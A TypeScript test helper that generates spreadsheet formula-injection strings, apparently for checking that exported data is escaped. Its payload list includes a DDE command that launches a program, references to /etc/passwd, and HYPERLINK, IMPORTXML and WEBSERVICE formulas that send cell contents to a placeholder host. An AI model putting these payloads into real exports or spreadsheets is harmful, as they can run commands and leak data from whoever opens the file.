const BEFORE = [
  '',
  ' ',
  '\u00a0',
  '\u200b',
  '"',
  '\u201c',
  '«',
  "'",
  '  "',
  '\t',
  '\r',
  '\n',
  '\ufeff',
  '\u0001',
  '\u3000',
]
const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212', '=+', '-=', '\ufe62', '\t=', '\r=']
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://example.test/?"&A1;"жауап")',
  'HYPERLINK("http://example.test/?"&A1,"ответ")',
  "cmd|' /C calc'!A0",
  'DDE("soffice";"/etc/passwd";"A1")',
  'WEBSERVICE("http://example.test/")',
  'IMPORTXML(CONCAT("http://example.test/?",A1),"//a")',
  "'file:///etc/passwd'#$passwd.A1",
  '77011234567',
  '2026-11-22',
  'Қуандықов;"Ерлан"',
  '{1;2}',
]

/** What a stranger may type into any field: so many texts that a table program would like to run. */
export function hostileTexts(count: number): string[] {
  const texts = BEFORE.flatMap(before => SIGNS.flatMap(sign => BODIES.map(body => `${before}${sign}${body}`)))
  return Array.from({ length: count }, (_, at) => `${texts[at % texts.length]}${at < texts.length ? '' : at}`)
}
